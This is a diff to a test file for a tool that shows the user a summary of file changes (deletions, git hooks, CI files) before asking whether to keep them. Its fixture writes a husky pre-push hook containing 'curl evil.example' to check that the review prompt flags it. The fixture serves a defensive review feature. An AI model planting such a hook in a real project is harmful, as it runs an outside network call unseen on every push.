@@ -138,7 +138,7 @@ describe.runIf(hasLayer)("what waits in a layer", () => {
   test("shows a deletion, a hook and a CI file among 500 changes, in 80 columns", async () => {
     const many = [
       "mkdir -p many/deep .github/workflows .husky",
-      "for i in $(seq 250); do echo $i > many/deep/file-with-a-long-name-$i.txt; echo $i > many/f$i; done",
+      "for i in $(seq 250); do echo $i > many/deep/file-with-a-long-name-$i.txt; echo $i > src/f$i; done",
       "rm src/b.txt; echo 'on: push' > .github/workflows/release.yml; echo 'curl evil.example' > .husky/pre-push",
     ];
     const { folder } = await project(...turn(many.join("; "), "Done."));
@@ -146,6 +146,7 @@ describe.runIf(hasLayer)("what waits in a layer", () => {
     const terminal = atTerminal(words, { cwd: folder, columns: 80 });
     const question = await terminal.until(ready);
     expect(question).toContain("Keep 508 changes?");
+    expect(question).toContain("  many: 252 entries");
     expect(question).toMatch(/DELETED: 1 change\s+delete src\/b\.txt/);
     expect(question).toMatch(/create \.github\/workflows\/release\.yml\s+\+on: push/);
     expect(question).toMatch(/create \.husky\/pre-push\s+\+curl evil\.example/);
